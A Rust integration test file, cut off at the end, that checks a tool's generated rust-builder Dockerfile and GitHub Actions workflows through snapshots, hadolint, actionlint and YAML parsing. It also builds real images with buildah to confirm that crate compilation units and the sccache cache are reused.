//! The shared rust-builder image and the CI workflows: rendering snapshots, the checked-in
//! builder Dockerfile kept current, linters (hadolint, actionlint), the workflows parsed as
//! YAML, and a real builder image built with buildah that a project built FROM it reuses.
//!
//! The linters and buildah come from `scripts/engines.sh setup`; a test that needs a missing
//! one fails and says so (it does not skip).

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;

use common::{prewarm_command as prewarm, python_tool as tool, repo, run_ok};

use prewarm::builder::{self, Options, Preset, Source, Warm};
use prewarm::ci::{self, GithubOptions};
use serde_yaml_ng::Value;

const SETUP_HINT: &str = "run `scripts/engines.sh setup` (installs buildah, hadolint and actionlint and makes the local base images)";

/// The small builder the real-build test uses: `serde`, `serde_json` and `itoa`, release units only,
/// no cargo-nextest (its install compiles for minutes), versions pinned by the fixture's lockfile.
fn minimal_options() -> Options {
    Options {
        source: Source::Preset(Preset::Minimal),
        warm: vec![Warm::Release],
        nextest: None,
        lockfile: Some("Cargo.lock".to_string()),
        ..Options::default()
    }
}

// ------------------------------------------------------------------ builder Dockerfile

#[test]
fn builder_dockerfile_snapshots() {
    insta::assert_snapshot!(
        "builder_minimal",
        builder::render(&minimal_options()).unwrap()
    );
    let crates = Options {
        source: Source::Crates(
            builder::parse_crates("tokio@1+full,serde@1+derive,axum@0.8+-default+json+http1+tokio")
                .unwrap(),
        ),
        base_image: "rust:1.94-bookworm".to_string(),
        nextest: Some("0.9.100".to_string()),
        ..Options::default()
    };
    insta::assert_snapshot!("builder_crates", builder::render(&crates).unwrap());
}

/// images/rust-builder/Dockerfile is what the current code generates for `--preset web`.
/// `PREWARM_BLESS=1 cargo test --test builder` rewrites it.
#[test]
fn checked_in_builder_dockerfile_is_current() {
    let path = repo().join(builder::CHECKED_IN_PATH);
    let expected = builder::render(&Options::default()).unwrap();
    assert!(
        expected.contains("#   prewarm image --builder --preset web\n"),
        "the header names the command that regenerates it"
    );
    if std::env::var_os("PREWARM_BLESS").is_some() {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, &expected).unwrap();
    }
    let actual = std::fs::read_to_string(&path).unwrap_or_default();
    assert!(
        actual == expected,
        "`{}` is not what prewarm generates now; regenerate it with\n    PREWARM_BLESS=1 cargo test --test builder checked_in\n(or `prewarm image --builder --preset web --output {}`) and review the diff",
        path.display(),
        builder::CHECKED_IN_PATH
    );
}

#[test]
fn builder_dockerfile_is_portable_and_deterministic() {
    for opts in [Options::default(), minimal_options()] {
        let a = builder::render(&opts).unwrap();
        let b = builder::render(&opts.clone()).unwrap();
        assert_eq!(a, b);
        let code: String = a
            .lines()
            .filter(|l| !l.starts_with('#'))
            .collect::<Vec<_>>()
            .join("\n");
        assert!(!code.contains("<<"), "no heredocs");
        assert!(!code.contains("--link"), "no COPY --link");
        assert!(
            !code.contains("--network") && !code.contains("--security"),
            "no RUN --network/--security"
        );
        assert!(a.contains(&format!("ENV CARGO_TARGET_DIR={}", builder::TARGET_DIR)));
        assert!(a.contains("sharing=locked"));
        for var in [
            "CARGO_HOME=",
            "RUSTUP_HOME=",
            "SCCACHE_DIR=",
            "RUSTC_WRAPPER=sccache",
        ] {
            assert!(a.contains(var), "sets {var}");
        }
    }
    let web = builder::render(&Options::default()).unwrap();
    for needle in [
        "clang mold sccache",
        "cargo install --locked cargo-nextest@",
        "add clippy",
        "add rustfmt",
        "-p warm-full",
        "-p warm-lean",
        "cargo build --release --locked -p warm-lean",
        "cargo check --locked -p warm-full",
    ] {
        assert!(web.contains(needle), "the web builder has `{needle}`");
    }
}

#[test]
fn builder_dockerfiles_pass_hadolint() {
    let hadolint = tool("hadolint");
    let dir = tempfile::tempdir().unwrap();
    for (name, opts) in [("web", Options::default()), ("minimal", minimal_options())] {
        let path = dir.path().join(format!("{name}.Dockerfile"));
        std::fs::write(&path, builder::render(&opts).unwrap()).unwrap();
        common::assert_hadolint_clean(&hadolint, &path);
    }
}

#[test]
fn bad_crate_lists_are_errors_with_hints() {
    let out = prewarm()
        .args(["ci", "github", "--cron", "daily"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("five-field cron"));
    let err = builder::parse_crates("tokio@1+full,bad crate").unwrap_err();
    assert!(err.hint().unwrap().contains("NAME[@VERSION][+FEATURE...]"));
}

// ------------------------------------------------------------------ CI workflows

fn yaml(text: &str) -> Value {
    serde_yaml_ng::from_str(text).unwrap_or_else(|e| panic!("not YAML: {e}\n{text}"))
}

fn lines(v: &Value) -> Vec<String> {
    v.as_str()
        .unwrap_or_default()
        .lines()
        .map(|l| l.trim().to_string())
        .filter(|l| !l.is_empty())
        .collect()
}

fn steps<'a>(wf: &'a Value, job: &str) -> &'a Vec<Value> {
    wf["jobs"][job]["steps"]
        .as_sequence()
        .unwrap_or_else(|| panic!("job `{job}` has steps"))
}

fn step_using<'a>(steps: &'a [Value], action: &str) -> &'a Value {
    steps
        .iter()
        .find(|s| s["uses"].as_str().is_some_and(|u| u.starts_with(action)))
        .unwrap_or_else(|| panic!("a step uses {action}"))
}

#[test]
fn ci_workflow_snapshots() {
    let opts = GithubOptions::default();
    insta::assert_snapshot!("ci_images", ci::render_images(&opts));
    insta::assert_snapshot!("ci_cache_cleanup", ci::render_cleanup(&opts));
    let with_tests = GithubOptions {
        test_job: true,
        ..GithubOptions::default()
    };
    insta::assert_snapshot!("ci_images_test_job", ci::render_images(&with_tests));
}

#[test]
fn ci_workflows_parse_as_yaml() {
    let opts = GithubOptions {
        retention_days: 14,
        ..GithubOptions::default()
    };
    let images = yaml(&ci::render_images(&opts));
    for job in ["rust-builder", "project"] {
        let steps = steps(&images, job);
        step_using(steps, "docker/setup-buildx-action@");
        let login = step_using(steps, "docker/login-action@");
        assert_eq!(
            login["with"]["password"].as_str(),
            Some("${{ secrets.GITHUB_TOKEN }}")
        );
        assert_eq!(
            login["with"]["registry"].as_str(),
            Some("${{ env.REGISTRY }}")
        );
        let build = &step_using(steps, "docker/build-push-action@")["with"];
        let scope = if job == "project" {
            "project"
        } else {
            "rust-builder"
        };
        let from = lines(&build["cache-from"]);
        assert_eq!(
            from,
            [
                format!("type=gha,scope={scope}-${{{{ github.ref_name }}}}"),
                format!("type=gha,scope={scope}"),
                format!(
                    "type=registry,ref=${{{{ env.IMAGE }}}}{}:cache",
                    if job == "project" {
                        ""
                    } else {
                        "/rust-builder"
                    }
                ),
            ]
        );
        let to = lines(&build["cache-to"]);
        assert_eq!(
            to[0],
            format!("type=gha,scope={scope}-${{{{ github.ref_name }}}},mode=max")
        );
        assert!(
            to[1].contains(&format!("'type=gha,scope={scope},mode=max'"))
                && to[1].contains("default_branch")
        );
        assert!(to[2].contains("type=registry,ref={0}") && to[2].contains(":cache,mode=max"));
    }
    assert_eq!(images["permissions"]["packages"].as_str(), Some("write"));
    assert_eq!(
        images["on"]["schedule"][0]["cron"].as_str(),
        Some("0 3 * * 1")
    );
    let builder_build =
        &step_using(steps(&images, "rust-builder"), "docker/build-push-action@")["with"];
    assert_eq!(
        builder_build["no-cache"].as_str(),
        Some("${{ github.event_name == 'schedule' }}")
    );
    let project_build = &step_using(steps(&images, "project"), "docker/build-push-action@")["with"];
    assert!(
        project_build.get("no-cache").is_none(),
        "the project image always uses the cache"
    );
    assert_eq!(
        images["jobs"]["project"]["needs"].as_str(),
        Some("rust-builder")
    );
    let builder_file =
        &step_using(steps(&images, "rust-builder"), "docker/build-push-action@")["with"]["file"];
    assert_eq!(builder_file.as_str(), Some(builder::CHECKED_IN_PATH));

    let cleanup = yaml(&ci::render_cleanup(&opts));
    assert_eq!(
        cleanup["on"]["schedule"][0]["cron"].as_str(),
        Some("0 2 * * 0")
    );
    let inputs = &cleanup["on"]["workflow_dispatch"]["inputs"];
    assert_eq!(inputs["retention-days"]["default"].as_u64(), Some(14));
    assert_eq!(
        cleanup["env"]["RETENTION_DAYS"].as_str(),
        Some("${{ inputs.retention-days || 14 }}")
    );
    assert_eq!(cleanup["permissions"]["actions"].as_str(), Some("write"));
    let scripts: Vec<&str> = steps(&cleanup, "cleanup")
        .iter()
        .filter_map(|s| s["run"].as_str())
        .collect();
    assert!(scripts.iter().any(|s| s.contains("gh cache delete")));
    assert!(scripts.iter().any(|s| s.contains("gh api --method DELETE")));

    let only_builder = yaml(&ci::render_images(&GithubOptions {
        dockerfile: None,
        ..GithubOptions::default()
    }));
    assert!(only_builder["jobs"].get("project").is_none());
}

/// Issue 10, 5.3: each job reports its build with `prewarm report` from the prewarm image of
/// this version, carries the history on through the GitHub Actions cache (restored before the
/// report, saved after it, under one key per run) and keeps the report as an artifact.
#[test]
fn ci_workflows_report_each_build() {
    let images = yaml(&ci::render_images(&GithubOptions::default()));
    for job in ["rust-builder", "project"] {
        let steps = steps(&images, job);
        let at = |action: &str| {
            steps
                .iter()
                .position(|s| s["uses"].as_str().is_some_and(|u| u.starts_with(action)))
                .unwrap_or_else(|| panic!("job {job} has a step using {action}"))
        };
        let report = steps
            .iter()
            .position(|s| {
                s["run"]
                    .as_str()
                    .is_some_and(|r| r.contains(" report --log "))
            })
            .unwrap_or_else(|| panic!("job {job} runs prewarm report"));
        let (build, restore, save, upload) = (
            at("docker/build-push-action@"),
            at("actions/cache/restore@"),
            at("actions/cache/save@"),
            at("actions/upload-artifact@"),
        );
        assert!(build < report && restore < report && report < save && report < upload);
        assert_eq!(steps[report]["continue-on-error"].as_bool(), Some(true));
        let script = steps[report]["run"].as_str().unwrap();
        let dir = format!("prewarm-report/{job}");
        assert!(
            script.contains(&format!("docker buildx history logs > {dir}/build.log")),
            "{script}"
        );
        assert!(
            script.contains(&format!(
                "{} report --log build.log",
                prewarm::image::default_prewarm_image()
            )),
            "{script}"
        );
        assert!(
            script.contains("--history history.jsonl") && script.contains("$GITHUB_STEP_SUMMARY")
        );
        let (restore, save) = (&steps[restore]["with"], &steps[save]["with"]);
        let history = format!("{dir}/history.jsonl");
        assert_eq!(restore["path"].as_str(), Some(history.as_str()));
        assert_eq!(save["path"].as_str(), Some(history.as_str()));
        // One new entry per run (entries are immutable); the newest of the branch, else of the
        // default branch, is restored.
        let key = restore["key"].as_str().unwrap();
        assert_eq!(save["key"].as_str(), Some(key));
        assert!(
            key.ends_with("${{ github.run_id }}-${{ github.run_attempt }}"),
            "{key}"
        );
        let prefix = format!("prewarm-history-{job}-");
        assert_eq!(
            lines(&restore["restore-keys"]),
            [
                format!("{prefix}${{{{ github.ref_name }}}}-"),
                format!("{prefix}${{{{ github.event.repository.default_branch }}}}-"),
            ]
        );
        assert!(key.starts_with(&format!("{prefix}${{{{ github.ref_name }}}}-")));
        let upload = &steps[upload]["with"];
        assert_eq!(upload["path"].as_str(), Some(format!("{dir}/").as_str()));
        assert_eq!(
            upload["name"].as_str(),
            Some(format!("prewarm-report-{job}").as_str())
        );
    }
}

#[test]
fn ci_github_writes_workflows_that_pass_actionlint() {
    let actionlint = tool("actionlint");
    let repo_dir = common::ci_repo();
    // From a subdirectory: the workflows go to the repository root, as GitHub reads them.
    let sub = repo_dir.path().join("src/deep");
    std::fs::create_dir_all(&sub).unwrap();
    let out = repo_dir.path().join(".github/workflows");
    // The label of a self-hosted scale set, as actionlint wants such labels declared.
    std::fs::create_dir_all(repo_dir.path().join(".github")).unwrap();
    std::fs::write(
        repo_dir.path().join(".github/actionlint.yaml"),
        "self-hosted-runner:\n  labels:\n    - rust-runners\n",
    )
    .unwrap();
    for extra in [
        &[][..],
        &["--no-project"][..],
        &["--registry", "registry.example.com"][..],
        &["--jobs", "test"][..],
        &["--jobs", "test", "--test-runs-on", "rust-runners"][..],
    ] {
        run_ok(
            prewarm()
                .args([
                    "ci",
                    "github",
                    "--retention-days",
                    "3",
                    "--image",
                    "acme/shop",
                ])
                .args(extra)
                .current_dir(&sub),
        );
        let mut files: Vec<PathBuf> = std::fs::read_dir(&out)
            .unwrap()
            .map(|e| e.unwrap().path())
            .collect();
        files.sort();
        assert_eq!(
            files.len(),
            2,
            "images.yml and cache-cleanup.yml: {files:?}"
        );
        let images = std::fs::read_to_string(out.join(ci::IMAGES_WORKFLOW)).unwrap();
        let cleanup = std::fs::read_to_string(out.join(ci::CLEANUP_WORKFLOW)).unwrap();
        assert!(cleanup.contains("default: 3") && cleanup.contains("IMAGE_NAME: \"acme/shop\""));
        if extra.contains(&"--registry") {
            // Another registry: named secrets to log in, and no clean-up through an API that
            // only ghcr.io has.
            assert!(
                images.contains("secrets.REGISTRY_USERNAME")
                    && images.contains("secrets.REGISTRY_PASSWORD")
            );
            assert!(!images.contains("secrets.GITHUB_TOKEN"), "{images}");
            assert!(!cleanup.contains("packages/container"), "{cleanup}");
        } else {
            assert!(images.contains("password: ${{ secrets.GITHUB_TOKEN }}"));
            assert!(cleanup.contains("packages/container"));
        }
        // actionlint also runs shellcheck on every `run:` script when shellcheck is installed
        // (with --no-project it once found SC2066 in the clean-up's loop).
        run_ok(
            Command::new(&actionlint)
                .arg("-no-color")
                .args(&files)
                .current_dir(repo_dir.path()),
        );
    }
}

/// Issue 10, 3.2: with a project Dockerfile written by `prewarm image --builder-image`, the
/// project job builds FROM the digest the rust-builder job pushed (a build argument on pushes,
/// the Dockerfile's default on pull requests); actionlint checks the expressions and the job
/// outputs they read. Without it, no build argument is passed.
#[test]
fn ci_github_builds_the_project_from_the_builder_digest() {
    let actionlint = tool("actionlint");
    let repo_dir = common::ci_repo();
    let (_fixture, app) = common::fixture("single");
    for entry in std::fs::read_dir(&app).unwrap() {
        let entry = entry.unwrap();
        let to = repo_dir.path().join(entry.file_name());
        if entry.path().is_dir() {
            copy_dir(&entry.path(), &to);
        } else {
            std::fs::copy(entry.path(), to).unwrap();
        }
    }
    run_ok(
        prewarm()
            .args([
                "image",
                "--force",
                "--release",
                "--builder-image",
                "ghcr.io/acme/shop/rust-builder:main",
            ])
            .current_dir(repo_dir.path()),
    );
    let out = prewarm()
        .args(["ci", "github", "--image", "acme/shop"])
        .current_dir(repo_dir.path())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(stderr.contains("builds FROM ARG BUILDER_IMAGE"), "{stderr}");
    let file = repo_dir
        .path()
        .join(".github/workflows")
        .join(ci::IMAGES_WORKFLOW);
    let images = yaml(&std::fs::read_to_string(&file).unwrap());
    assert_eq!(
        images["jobs"]["rust-builder"]["outputs"]["digest"].as_str(),
        Some("${{ steps.build.outputs.digest }}")
    );
    let builder_step = step_using(steps(&images, "rust-builder"), "docker/build-push-action@");
    assert_eq!(builder_step["id"].as_str(), Some("build"));
    let build = &step_using(steps(&images, "project"), "docker/build-push-action@")["with"];
    let args = build["build-args"].as_str().unwrap();
    assert!(
        args.contains("BUILDER_IMAGE={0}/rust-builder@{1}")
            && args.contains("needs.rust-builder.outputs.digest")
            && args.contains("github.event_name != 'pull_request'"),
        "{args}"
    );
    run_ok(
        Command::new(&actionlint)
            .arg("-no-color")
            .arg(&file)
            .current_dir(repo_dir.path()),
    );

    // A Dockerfile FROM a plain Rust image: no build argument, and a note that says how.
    run_ok(
        prewarm()
            .args(["image", "--force", "--release"])
            .current_dir(repo_dir.path()),
    );
    let out = prewarm()
        .args(["ci", "github", "--image", "acme/shop"])
        .current_dir(repo_dir.path())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("--builder-image"), "{stderr}");
    let images = yaml(&std::fs::read_to_string(&file).unwrap());
    assert!(images["jobs"]["rust-builder"].get("outputs").is_none());
    let build = &step_using(steps(&images, "project"), "docker/build-push-action@")["with"];
    assert!(build.get("build-args").is_none(), "{build:?}");
}

#[test]
fn ci_github_refuses_foreign_workflows_and_missing_dockerfiles() {
    let repo_dir = common::ci_repo();
    let out = repo_dir.path().join(".github/workflows");
    std::fs::create_dir_all(&out).unwrap();
    let mine = out.join(ci::IMAGES_WORKFLOW);
    std::fs::write(&mine, "name: images\non: push\n").unwrap();
    let run = |args: &[&str]| {
        prewarm()
            .args(["ci", "github"])
            .args(args)
            .current_dir(repo_dir.path())
            .output()
            .unwrap()
    };
    let o = run(&[]);
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert!(!o.status.success());
    assert!(
        stderr.contains("refusing to overwrite") && stderr.contains("images.yml"),
        "{stderr}"
    );
    assert!(stderr.contains("--force"), "{stderr}");
    assert_eq!(
        std::fs::read_to_string(&mine).unwrap(),
        "name: images\non: push\n"
    );
    // --force overwrites; after that the file is prewarm's and is rewritten without it.
    assert!(run(&["--force"]).status.success());
    assert!(std::fs::read_to_string(&mine).unwrap().contains(ci::MARKER));
    assert!(run(&[]).status.success());
    // A Dockerfile the workflow would build must exist.
    std::fs::remove_file(repo_dir.path().join("Dockerfile")).unwrap();
    let o = run(&[]);
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert!(!o.status.success());
    assert!(
        stderr.contains("Dockerfile`, which does not exist") && stderr.contains("prewarm image"),
        "{stderr}"
    );
    assert!(run(&["--no-project"]).status.success());
    std::fs::remove_file(repo_dir.path().join(builder::CHECKED_IN_PATH)).unwrap();
    let o = run(&["--no-project"]);
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert!(!o.status.success());
    assert!(stderr.contains("prewarm image --builder"), "{stderr}");
}

// ------------------------------------------------------------------ real builds (buildah)

const BUILDER_TAG: &str = "localhost/prewarm-test/rust-builder:minimal";
const PROJECT_TAG: &str = "localhost/prewarm-test/builder-app:latest";

fn require_buildah(base_image: &str) {
    let version = Command::new("buildah").arg("--version").output();
    assert!(
        version.is_ok_and(|o| o.status.success()),
        "buildah is not installed: {SETUP_HINT}"
    );
    let image = Command::new("buildah")
        .args(["inspect", "--type", "image", base_image])
        .output()
        .unwrap();
    assert!(
        image.status.success(),
        "the base image `{base_image}` is not in buildah's storage: {SETUP_HINT}"
    );
}

fn buildah_build(dockerfile: &Path, context: &Path, tag: &str, layers: bool) -> String {
    let mut cmd = Command::new("buildah");
    cmd.args([
        "build",
        "--pull=never",
        "--force-rm",
        "--isolation",
        "chroot",
    ]);
    cmd.arg(if layers { "--layers" } else { "--no-cache" });
    cmd.args(["-t", tag, "-f"])
        .arg(dockerfile)
        .arg(context)
        .env("BUILDAH_ISOLATION", "chroot");
    run_ok(&mut cmd)
}

fn copy_dir(from: &Path, to: &Path) {
    for entry in walkdir::WalkDir::new(from) {
        let entry = entry.unwrap();
        let rel = entry.path().strip_prefix(from).unwrap();
        if rel.starts_with("target") {
            continue;
        }
        let dest = to.join(rel);
        if entry.file_type().is_dir() {
            std::fs::create_dir_all(&dest).unwrap();
        } else {
            std::fs::copy(entry.path(), &dest).unwrap();
        }
    }
}

/// External units of a cargo JSON stream: (fresh, total).
fn count_external(stdout: &str) -> (usize, usize) {
    let mut reuse = prewarm::cmd::builder_report::Reuse::default();
    for line in stdout.lines() {
        if let Some(a) = prewarm::messages::parse_artifact(line.trim()) {
            reuse.add(&a);
        }
    }
    (reuse.fresh.len(), reuse.total())
}

/// The builder image is built for real (preset `minimal`, release units, versions pinned by the
/// project's lockfile); a project built FROM it with `cargo build --release --locked` finds
/// every one of its external units fresh, as many as a cold build of it compiles; its binary
/// runs; and `prewarm builder-report` counts the same.
#[test]
fn builder_image_is_built_and_a_project_from_it_reuses_every_unit() {
    let opts = minimal_options();
    require_buildah(&opts.base_image.replace("rust:", "docker.io/library/rust:"));
    let fixture = repo().join("tests/fixtures/builder-app");
    let work = tempfile::tempdir().unwrap();

    // How many external units the project has: a cold build on the host.
    let host = run_ok(
        Command::new(std::env::var("CARGO").unwrap_or_else(|_| "cargo".into()))
            .args([
                "build",
                "--release",
                "--locked",
                "--message-format=json",
                "--manifest-path",
            ])
            .arg(fixture.join("Cargo.toml"))
            .env("CARGO_TARGET_DIR", work.path().join("host-target"))
            .env_remove("RUSTC_WRAPPER"),
    );
    let (_, expected) = count_external(&host);
    assert!(
        expected >= 10,
        "serde, serde_derive, serde_json, itoa and their dependencies: {expected} units"
    );

    // The builder image: its build context holds only the pinning lockfile.
    let ctx = work.path().join("builder");
    std::fs::create_dir_all(&ctx).unwrap();
    std::fs::copy(fixture.join("Cargo.lock"), ctx.join("Cargo.lock")).unwrap();
    std::fs::write(ctx.join("Dockerfile"), builder::render(&opts).unwrap()).unwrap();
    buildah_build(&ctx.join("Dockerfile"), &ctx, BUILDER_TAG, true);

    // The project, FROM the builder, with --no-cache so that the build runs every time. With chroot
    // isolation containers share the host's network: the RUN gives sccache (the image's
    // RUSTC_WRAPPER) a port of its own and stops its server afterwards.
    let app = work.path().join("app");
    copy_dir(&fixture, &app);
    let port = 20_000 + std::process::id() % 20_000;
    std::fs::write(
        app.join("Dockerfile"),
        format!(
            "FROM {BUILDER_TAG}\nWORKDIR /src/app\nCOPY Cargo.toml Cargo.lock ./\nCOPY src ./src\n\
             RUN export SCCACHE_SERVER_PORT={port} && cargo build --release --locked --message-format=json \
             && cp {}/release/builder-app /usr/local/bin/ && sccache --stop-server >/dev/null\n",
            builder::TARGET_DIR
        ),
    )
    .unwrap();
    let log = buildah_build(&app.join("Dockerfile"), &app, PROJECT_TAG, false);
    let (fresh, total) = count_external(&log);
    eprintln!(
        "builder image reuse: {fresh} of {total} external units fresh (cold build: {expected})"
    );
    assert_eq!(
        total, expected,
        "the build FROM the builder has the project's external units:\n{log}"
    );
    assert_eq!(
        fresh, expected,
        "every external unit is reused from the builder image:\n{log}"
    );

    let container =
        run_ok(Command::new("buildah").args(["from", "--pull=never", "-q", PROJECT_TAG]));
    let output = Command::new("buildah")
        .args([
            "run",
            "--isolation",
            "chroot",
            container.trim(),
            "--",
            "builder-app",
        ])
        .output()
        .unwrap();
    let _ = Command::new("buildah")
        .args(["rm", container.trim()])
        .output();
    let _ = Command::new("buildah").args(["rmi", PROJECT_TAG]).output();
    assert_eq!(
        String::from_utf8_lossy(&output.stdout).trim(),
        r#"{"message":"hello from the builder image","count":"3"}"#
    );

    assert_builder_report(&fixture, expected);
    assert_project_image_from_builder(&fixture, expected);
    assert_test_job_in_builder(&fixture);
}

/// One run of the test job's `commands` in a fresh container of the builder image with the
/// job's `env`, sccache's directory bind-mounted (`mount`): each step's name and output.
fn run_test_job(
    run: u32,
    fixture: &Path,
    commands: &[(String, String)],
    env: &[String],
    mount: &str,
    port: &str,
) -> Vec<(String, String)> {
    use std::fmt::Write as _;
    let ctr = run_ok(Command::new("buildah").args(["from", "--pull=never", "-q", BUILDER_TAG]));
    let ctr = ctr.trim().to_string();
    run_ok(
        Command::new("buildah")
            .arg("copy")
            .arg(&ctr)
            .arg(fixture)
            .arg("/src/app"),
    );
    // One session for the job's steps, as a job's steps share its container: sccache's
    // server, started by the first compile, must not outlive the container's mounts
    // (each `buildah run` gets fresh ones). A marker line starts each step's output, and
    // stderr joins stdout so that the two stay in order.
    let mut script = String::from("set -e\nexec 2>&1\n");
    for (name, command) in commands {
        let _ = writeln!(script, "echo '::step {name}'\n{command}");
    }
    script.push_str("sccache --stop-server >/dev/null\n");
    let mut c = Command::new("buildah");
    c.args(["run", "--isolation", "chroot", "--workingdir", "/src/app"])
        .args(["-v", mount]);
    for e in env {
        c.args(["--env", e]);
    }
    c.args(["--env", &format!("SCCACHE_SERVER_PORT={port}")]);
    let out = c
        .arg(&ctr)
        .args(["--", "sh", "-c", &script])
        .output()
        .unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    let _ = Command::new("buildah").args(["rm", &ctr]).output();
    assert!(out.status.success(), "run {run} of the test job:\n{text}");
    let mut outputs: Vec<(String, String)> = Vec::new();
    for line in text.lines() {
        if let Some(name) = line.strip_prefix("::step ") {
            outputs.push((name.to_string(), String::new()));
        } else if let Some((_, out)) = outputs.last_mut() {
            out.push_str(line);
            out.push('\n');
        }
    }
    let names: Vec<&str> = outputs.iter().map(|(n, _)| n.as_str()).collect();
    let want: Vec<&str> = commands.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(names, want, "{text}");
    outputs
}

/// sccache's `Cache hits` and `Cache misses` counts in `--show-stats` text.
fn sccache_counts(text: &str) -> Option<(u64, u64)> {
    let count = |label: &str| {
        text.lines().find_map(|l| {
            let rest = l.strip_prefix(label)?;
            if !rest.starts_with(' ') {
                return None;
            }
            rest.trim().parse::<u64>().ok()
        })
    };
    Some((count("Cache hits")?, count("Cache misses")?))
}

/// Issue 10, 4.2: the very commands of the `test` job that `prewarm ci github --jobs test`
/// writes (read from the workflow, with its environment) run in a container of the builder
/// image, twice, with sccache's directory bind-mounted from the host as the job's cache would
/// restore it: both runs pass, the release build finds every external unit prewarmed, and the
/// second run's sccache hit rate is higher.
fn assert_test_job_in_builder(fixture: &Path) {
    let workflow = yaml(&ci::render_images(&GithubOptions {
        test_job: true,
        ..GithubOptions::default()
    }));
    let job = &workflow["jobs"]["test"];
    let env: Vec<String> = job["env"]
        .as_mapping()
        .unwrap()
        .iter()
        .map(|(k, v)| format!("{}={}", k.as_str().unwrap(), v.as_str().unwrap()))
        .collect();
    let sccache_dir = job["env"]["SCCACHE_DIR"].as_str().unwrap().to_string();
    let commands: Vec<(String, String)> = job["steps"]
        .as_sequence()
        .unwrap()
        .iter()
        .filter_map(|s| {
            Some((
                s["name"].as_str()?.to_string(),
                s["run"].as_str()?.to_string(),
            ))
        })
        .collect();
    assert_eq!(commands.len(), ci::test_job::COMMANDS.len(), "{job:?}");
    let cache = tempfile::tempdir().unwrap();
    let port = (20_000 + std::process::id() % 20_000 + 1).to_string();
    let mount = format!("{}:{sccache_dir}", cache.path().display());
    let mut rates = Vec::new();
    for run in 1..=2 {
        let outputs = run_test_job(run, fixture, &commands, &env, &mount, &port);
        let release = &outputs
            .iter()
            .find(|(n, _)| n == "Release build")
            .unwrap()
            .1;
        let external: Vec<&str> = release
            .lines()
            .filter_map(|l| l.trim_start().strip_prefix("Compiling "))
            .filter(|r| !r.contains(" ("))
            .collect();
        assert!(
            external.is_empty(),
            "run {run}: the release build compiled external crates the builder prewarmed: {external:?}\n{release}"
        );
        let stats = &outputs.last().unwrap().1;
        let (hits, misses) =
            sccache_counts(stats).unwrap_or_else(|| panic!("no sccache counts:\n{stats}"));
        assert!(hits + misses > 0, "sccache saw no compilation:\n{stats}");
        #[allow(clippy::cast_precision_loss)] // reason: counts far below 2^52
        let rate = hits as f64 / (hits + misses) as f64;
        eprintln!(
            "test job in the builder image, run {run}: sccache {hits} hits, {misses} misses ({:.0}%)",
            rate * 100.0
        );
        rates.push(rate);
    }
    assert!(
        rates[1] > rates[0],
        "the second run should hit sccache's cache more: {rates:?}"
    );
}

/// Issue 10, 3: the project image `prewarm image --builder-image` writes, FROM the builder
/// image just built, takes the target directory from the image's label (no `--target-dir`),
/// and its cook finds every external unit in the builder fresh: `prewarm cook` counts them
/// from cargo's JSON, and no external crate compiles anywhere in the build.
fn assert_project_image_from_builder(fixture: &Path, expected: usize) {
    let prewarm_image = common::engine::setup();
    let work = tempfile::tempdir().unwrap();
    let app = work.path().join("app");
    copy_dir(fixture, &app);
    let out = prewarm()
        .current_dir(&app)
        .args([
            "image",
            "--release",
            "--builder-image",
            BUILDER_TAG,
            "--prewarm-image",
            prewarm_image,
        ])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(
        !stderr.contains("no local engine holds it"),
        "the builder's label was not read: {stderr}"
    );
    let dockerfile = std::fs::read_to_string(app.join("Dockerfile")).unwrap();
    assert!(
        dockerfile.contains(&format!("ARG BUILDER_IMAGE={BUILDER_TAG}\n"))
            && dockerfile.contains("FROM ${BUILDER_IMAGE} AS base")
            && dockerfile.contains(&format!("--target-dir={}", builder::TARGET_DIR)),
        "{dockerfile}"
    );
    let tag = common::engine::run_tag("localhost/prewarm-test/builder-app-image");
    let build = common::engine::build(
        common::engine::Engine::Buildah,
        &app,
        &app.join("Dockerfile"),
        &tag,
        // Every step runs (an earlier test run's layers would hide the cook's output).
        &["--no-cache"],
    );
    let cooked = build
        .cook()
        .output
        .iter()
        .find_map(|l| {
            let rest = l.split("cooked ").nth(1)?;
            let (n, rest) = rest.split_once(" dependency units (")?;
            let (fresh, _) = rest.split_once(" already fresh")?;
            Some((n.parse::<usize>().ok()?, fresh.parse::<usize>().ok()?))
        })
        .unwrap_or_else(|| {
            panic!(
                "no `cooked N dependency units` line (log {})",
                build.log.display()
            )
        });
    eprintln!(
        "project image FROM the builder: the cook found {} of {} external units fresh (cold build: {expected}), {:.1}s",
        cooked.1, cooked.0, build.secs
    );
    assert_eq!(cooked, (expected, expected), "log {}", build.log.display());
    let (external, local) = build.compiled();
    assert!(
        external.is_empty(),
        "external crates compiled FROM the builder: {external:?} (log {})",
        build.log.display()
    );
    // The workspace's crate, and the dependency recipe's synthetic package in the cook.
    assert!(
        local.iter().any(|c| c.starts_with("builder-app "))
            && local
                .iter()
                .all(|c| c.starts_with("builder-app ") || c.starts_with("prewarm-deps ")),
        "{local:?}"
    );
    let out = common::engine::run_in(
        common::engine::Engine::Buildah,
        &tag,
        &["/usr/local/bin/builder-app"],
    );
    assert_eq!(
        out.trim(),
        r#"{"message":"hello from the builder image","count":"3"}"#
    );
    let _ = Command::new("buildah").args(["rmi", &tag]).output();
}

/// The report verb: a real build in a container of the image, counted the same way as the
/// build above, as text and as JSON.
fn assert_builder_report(fixture: &Path, expected: usize) {
    // The report verb: a real build in a container of the image, counted the same way.
    let report = run_ok(
        prewarm()
            .args([
                "builder-report",
                "--image",
                BUILDER_TAG,
                "--min-reused",
                "100",
                "--release",
                "--locked",
                "--manifest-path",
            ])
            .arg(fixture.join("Cargo.toml")),
    );
    assert!(
        report.contains(&format!(
            "already held {expected} of the project's {expected} external units (100%)"
        )),
